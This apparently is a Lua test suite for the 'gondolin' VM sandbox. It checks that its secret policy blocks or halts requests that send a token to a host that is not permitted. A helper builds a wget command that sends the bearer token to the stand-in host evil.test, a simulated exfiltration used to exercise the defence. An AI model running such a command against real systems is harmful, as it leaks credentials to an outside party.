-- A request that tries to send a secret where it may not go: "block" (403,
-- an event naming the secret) or "terminate" (the VM is stopped; its exec
-- calls say which secret and host). Events never carry the value.
local gondolin = require "gondolin"
local http_server = require "helpers.http_server"
local find_event = require("helpers.util").find_event

describe("secret violations #vm", function()
  local srv

  setup(function() srv = http_server.start() end)
  teardown(function() if srv then srv:close() end end)

  local function policy(action, events)
    return gondolin.policy {
      allow = { "good.test", "evil.test" },
      allow_internal = { "127.0.0.1:" .. srv.port },
      resolve = { ["good.test"] = "127.0.0.1", ["evil.test"] = "127.0.0.1" },
      secrets = { TOKEN = { hosts = { "good.test" }, value = "v-7f3a-real", on_violation = action } },
      on_event = function(ev) events[#events + 1] = ev end,
    }
  end

  local function leak(port)
    return ([[wget -qO- --header "Authorization: Bearer $TOKEN" http://evil.test:%d/echo; echo rc=$?]]):format(port)
  end

  local function no_value(events)
    for _, ev in ipairs(events) do
      for k, v in pairs(ev) do
        assert.is_nil(tostring(v):find("v-7f3a-real", 1, true), "event field " .. k)
      end
    end
  end

  it("blocks the request and names the secret in the event (block, the default)", function()
    local events = {}
    local vm <close> = gondolin.vm { image = "minimal", policy = policy(nil, events) }
    local r = vm:exec(leak(srv.port))
    assert.matches("rc=1", r.stdout)
    local ev = find_event(events, { host = "evil.test", status = 403 })
    assert.equal("TOKEN", ev.secret)
    assert.equal("block", ev.violation)
    assert.matches("secret TOKEN may not be sent to evil.test", ev.reason, 1, true)
    no_value(events)
    assert.equal(0, vm:exec("true").code)   -- the VM goes on
  end)

  it("stops the VM with terminate, and its exec calls say why", function()
    local events = {}
    local vm <close> = gondolin.vm { image = "minimal", policy = policy("terminate", events) }
    local r, err = vm:exec(leak(srv.port))
    assert.is_nil(r)
    assert.matches("secret TOKEN may not be sent to evil.test", err, 1, true)
    assert.matches("terminate", err, 1, true)
    local ev = find_event(events, { host = "evil.test" })
    assert.equal("TOKEN", ev.secret)
    assert.equal("terminate", ev.violation)
    no_value(events)
    local r2, err2 = vm:exec("true")
    assert.is_nil(r2)
    assert.matches("secret TOKEN", err2, 1, true)
    for _, req in ipairs(srv.requests) do
      assert.is_nil((req.headers.authorization or ""):find("v-7f3a-real", 1, true))
    end
  end)

  it("refuses an unknown action, naming what is accepted", function()
    assert.has_error(function()
      gondolin.policy { secrets = { T = { hosts = { "a.test" }, value = "x", on_violation = "warn" } } }
    end)
    local ok, err = pcall(gondolin.policy, { on_violation = "kill" })
    assert.is_false(ok)
    assert.matches("on_violation", err)
    assert.matches("block", err)
    assert.matches("terminate", err)
  end)
end)
